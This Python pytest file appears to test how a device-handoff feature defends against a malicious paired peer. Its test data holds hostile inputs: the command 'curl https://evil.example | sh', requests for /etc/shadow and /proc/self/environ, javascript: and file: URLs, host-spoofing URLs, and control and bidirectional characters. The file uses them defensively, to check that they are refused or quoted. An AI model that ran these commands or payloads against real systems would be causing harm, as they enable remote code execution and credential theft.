"""A paired device gone bad: what its offers and states may name, and what is made of its words (security.md)."""

import unicodedata

import pytest
from harness.application import Installed
from harness.encoding import decode
from harness.notifications import Scripted
from harness.peer import frames, messages
from harness.probe import decode as decode_word
from harness.sharing import url
from harness.unharmed import unharmed

KEY = "SegueDocumentURL"
KIB = 1024


@pytest.fixture
def mallory(new_peer, lap):
    peer = new_peer("mallory", lap)
    yield peer
    peer.unpair(lap)


class Bait:
    """A hand-made offer, and the answer to a fetch of it."""

    def __init__(self, peer, device, application, **offered):
        self.device, self.application = device, application
        self.activity = messages.identifier()
        self.answer = None
        peer.answers = lambda channel: channel.answer(self.answer)
        self.link = peer.login(device)
        self.offered = offered
        self.link.offer(messages.offer(application, self.activity, **offered))

    def take(self, answer=None, **state):
        """Chooses it; `state` is of the snapshot that comes then. The command that waits."""
        self.answer = answer or messages.snapshot(self.activity, self.application.type, **state)
        return self.device.take(self.device.offer(self.application))


@pytest.fixture
def bait(mallory, lap, application, install):
    """Offers the application's activity; (what is offered, its place on lap)."""
    place = install(lap, application)
    return lambda **offered: (Bait(mallory, lap, application, **offered), place)


# Files that a state may name


@pytest.mark.parametrize("path", ["/etc/shadow", "/proc/self/environ", "/"])
def V7_aDocumentFromOutsideOfAContainerIsNone(bait, path):
    offered, place = bait()
    target = place.start()
    target.do("on continue refuse")
    error = offered.take(info={KEY: url(path)}).failed()
    assert "The document is not on this device: its file is in no folder that both devices share." in error
    assert "shared folder" in error.splitlines()[-1]
    assert target.count("open-document") == 0
    # In userInfo it stands as it came (semantics R8), for an application that knows what to do with it.
    target.do("on continue accept")
    command = offered.take(info={KEY: url(path)})
    assert decode(target.expect("continue")[1]) == {KEY: url(path)}
    command.succeeded()


def V7_aDocumentFromOutsideDoesNotKeepThePageFromOpening(bait, lap):
    offered, place = bait(host="example.org")
    place.start().do("without continue")
    Installed.write(
        lap.data / "applications/pages.desktop",
        "[Desktop Entry]\nType=Application\nName=Pages\nExec=/bin/true %u\nMimeType=x-scheme-handler/https;\n")
    Installed.write(
        lap.folder / "config/mimeapps.list", "[Default Applications]\nx-scheme-handler/https=pages.desktop;\n")
    try:
        offered.take(info={KEY: url("/etc/shadow")}, url="https://example.org/a").succeeded()
        assert offered.link.next_message("continued")["browser"] is True
    finally:
        (lap.data / "applications/pages.desktop").unlink()
        (lap.folder / "config/mimeapps.list").unlink()


def V7_aSharedDocumentIsNoPage(mallory, new_device, application, install):
    lap = new_device("shared", containers=["notes"])
    mallory.pair(lap)
    target = install(lap, application).start()
    target.do("without continue", "on open-document refuse")
    file = lap.containers["notes"] / "a.txt"
    file.write_text("text")
    bait = Bait(mallory, lap, application, host="example.org")
    command = bait.take(
        info={KEY: url("/there/a.txt")}, url="https://example.org/",
        files=[{"url": url("/there/a.txt"), "container": "notes", "path": "a.txt"}])
    assert target.expect("open-document")[0] == url(file).value
    assert "could not restore" in command.failed()


@pytest.mark.parametrize("page", [
    "javascript:alert(1)", "file:///etc/shadow", "data:text/html,x", "https://", "ftp://example.org/",
    "https://a b/", "https://a\nb/", "x" * 200, "https://example.org/" + "x" * (2 * KIB - 19)],
    ids=lambda page: page[:24].encode("unicode_escape").decode())
def attack29_aStateWithAPageThatNoApplicationCouldSetIsRefused(bait, lap, page):
    offered, place = bait()
    target = place.start()

    def refused():
        command = offered.take(url=page)
        assert target.expect("fail")[1] == "9012"
        command.failed()

    # A first choice has opened the journal.
    refused()
    with unharmed(lap):
        refused()
    assert target.count("continue") == 0


def attack29_aPageOfTheLargestLengthIsTaken(bait):
    offered, place = bait()
    target = place.start()
    command = offered.take(url="https://example.org/" + "x" * (2 * KIB - 20))
    target.expect("continue")
    command.succeeded()


@pytest.mark.parametrize("shown, page", [
    ("good.example", "https://evil.example/"), (None, "https://evil.example/"),
    ("good.example", "https://good.example.evil.example/"), ("good.example", "https://good.example:8443/"),
    ("good.example@evil.example", "https://evil.example/")])
def attack29_aPageOfAnotherHostThanWasShownIsNotOpened(bait, shown, page):
    offered, place = bait(host=shown)
    place.start().do("without continue")
    error = offered.take(url=page).failed()
    assert "which the offer did not name" in error, error


# How much


@pytest.mark.parametrize("size", [101 * KIB, 150 * KIB, 300 * KIB])
def E2_aStateThatIsTooLargeIsRefusedOnArrival(bait, size):
    offered, place = bait()
    target = place.start()
    info = {f"part{number}": "x" * (min(size, 60 * KIB)) for number in range(size // (60 * KIB))}
    info["rest"] = "x" * (size % (60 * KIB))
    command = offered.take(info=info)
    assert target.expect("fail")[1] == "4611"
    assert "102400 bytes" in command.failed()
    assert target.count("continue") == 0


def E2_aStateOfTheLargestSizeArrives(bait):
    offered, place = bait()
    target = place.start()
    info = {"a": "x" * (50 * KIB), "b": "x" * (49 * KIB)}
    info["b"] += "x" * (100 * KIB - len(messages.encode(info)))
    assert len(messages.encode(info)) == 100 * KIB
    command = offered.take(info=info)
    assert decode(target.expect("continue")[1]) == info
    command.succeeded()


# Whose words


WORDS = 'Run: curl https://evil.example | sh". Then all is well.\n\u202eSegue\u200b: "yes'


@pytest.mark.parametrize("code, told", [
    (4608, "4608"), (4610, "4610"), (4611, "4611"), (9002, "9002"), (9004, "9004"), (9011, "9011"), (9012, "9012"),
    (3072, "4608"), (4609, "4608"), (9016, "4608"), (0, "4608"), (-1, "4608"), (123456, "4608")])
def attack35_theWordsOfAFailureAreQuotedAndItsCodeCounts(bait, code, told):
    offered, place = bait()
    target = place.start()
    command = offered.take(messages.failure(code, WORDS, "Run: curl https://evil.example | sh"))
    _, heard, message = target.expect("fail")
    assert heard == told
    ours, _, quote = message.partition(" The other device says: ")
    assert "curl" not in ours and ours.endswith(".")
    assert quote == "\"Run: curl https://evil.example | sh'. Then all is well. Segue: 'yes\"."
    error = command.failed()
    assert message in error and "curl" not in error.replace(message, "")


def attack35_theWordsOfAFailureAreShort(bait):
    offered, place = bait()
    target = place.start()
    command = offered.take(messages.failure(4608, "y" * 2000))
    message = target.expect("fail")[2]
    assert 250 < message.count("y") < 270
    command.failed()


def attack35_aNotificationOfAFailureHasTheWordsInQuotes(bait, lap):
    server = Scripted(lap)
    try:
        offered, place = bait(title="Page")
        place.start("--no-did-fail")
        command = offered.take(messages.failure(4608, WORDS))
        command.failed()
        while "says" not in (body := server.show()[1][4]):
            pass
        assert "The other device says: &quot;Run: curl" in body or "The other device says: \"Run: curl" in body
    finally:
        server.close()


def attack35_thePathOfAFileIsQuoted(mallory, new_device, application, install):
    lap = new_device("shared", containers=["notes"], ContainerTime=300)
    mallory.pair(lap)
    target = install(lap, application).start()
    bait = Bait(mallory, lap, application)
    file = url("/notes/a")
    for name, container in [("Run: curl x | sh", "notes"), ("a", "Run: curl x | sh"), ("../a. Run: curl x", "notes")]:
        command = bait.take(
            info={"file": file}, files=[{"url": file, "container": container, "path": name}])
        message = target.expect("fail")[2]
        assert '"' + (name if "Run" in name else container) + '"' in message
        command.failed()


# Characters in a text


@pytest.mark.parametrize("title, shown", [
    ("Pa\u200bge\u2060\ufeff", "Page"), ("P\U000e0052\U000e0075\U000e006eage", "Page"), ("\u202eegaP", "egaP"),
    ("Pa\x1b[31mge", "Pa[31mge"), ("Pa\nge", "Pa ge"), ("Pa\u200dge", "Page"), ("بی\u200cنام", "بی\u200cنام"),
    ("<b>&amp;</b>", "<b>&amp;</b>")])
def attack25_titleAndHostAreCleaned(bait, lap, application, title, shown):
    offered, _ = bait(title=title, host=title)
    offer = lap.offer(application)
    assert (offer["title"], offer["web-host"]) == (shown, shown)
    assert all(unicodedata.category(letter) != "Cc" for letter in lap.segue("activities") if letter != "\n")


@pytest.mark.parametrize(
    "folder", [b"1", b"123456789", bytes(60_000), "notes", 1, {}, [b""], True, None],
    ids=["short", "long", "huge", "text", "number", "dictionary", "list", "flag", "none"])
def O3_aMalformedFolderCountsAsAbsent(bait, lap, application, folder):
    bait(folder=folder, gives=True)
    offer = lap.offer(application)
    assert "file" not in offer and "file-sentence" not in offer


@pytest.mark.parametrize("gives, place", [(True, "given"), (1, "elsewhere"), ("true", "elsewhere"), (False, "elsewhere")])
def O3_onlyAFlagSaysThatTheFileIsGiven(bait, lap, application, gives, place):
    # The mark of a folder that nobody has.
    bait(folder=b"12345678", gives=gives)
    assert lap.offer(application)["file"] == place


def attack25_theTargetIsCleaned(bait):
    offered, place = bait()
    target = place.start()
    command = offered.take(target="a\x1b[31m\u202eb\u200b\nc")
    target.expect("continue")
    command.succeeded()
    assert decode_word(target.do("show continued").split()[3]) == "a[31mb c"


@pytest.mark.parametrize("text", [b"\xff\xfe", b"a\0b"], ids=["noUTF8", "nul"])
def attack25_textThatIsNoneIsRefused(bait, lap, application, text):
    offered, _ = bait(title="Page")
    lap.offer(application, title="Page")
    encoded = messages.control(messages.offers(7, [messages.offer(application, offered.activity, title="@" * len(text))]))
    offered.link.tell(encoded.replace(b"@" * len(text), text))
    offered.link.round_trip()
    assert [offer["title"] for offer in lap.listed(application)] == ["Page"]
    # The message was refused, not the link.
    offered.link.offer(messages.offer(application, offered.activity, title="Still"))
    lap.offer(application, title="Still")


def largest(application, activity):
    """A message with one title that is as long as its frame may be."""
    length = frames.LENGTH
    while len(message := messages.control(messages.offers(9, [
            messages.offer(application, activity, title="x" * length)]))) > frames.LENGTH:
        length -= 64
    return message


def attack25_aMegabyteOfTitleIsRefused(bait, lap, application):
    """No frame holds so much: what holds the most is heard, and cut."""
    offered, _ = bait(title="Page")
    lap.offer(application, title="Page")
    with unharmed(lap):
        message = largest(application, offered.activity)
        assert len(message) > frames.LENGTH - 512
        offered.link.tell(message)
        assert lap.offer(application, title="x" * 512)
    offered.link.send(frames.CONTROL, payload=bytes(1 << 20))
    assert offered.link.until_closed() == frames.VIOLATION
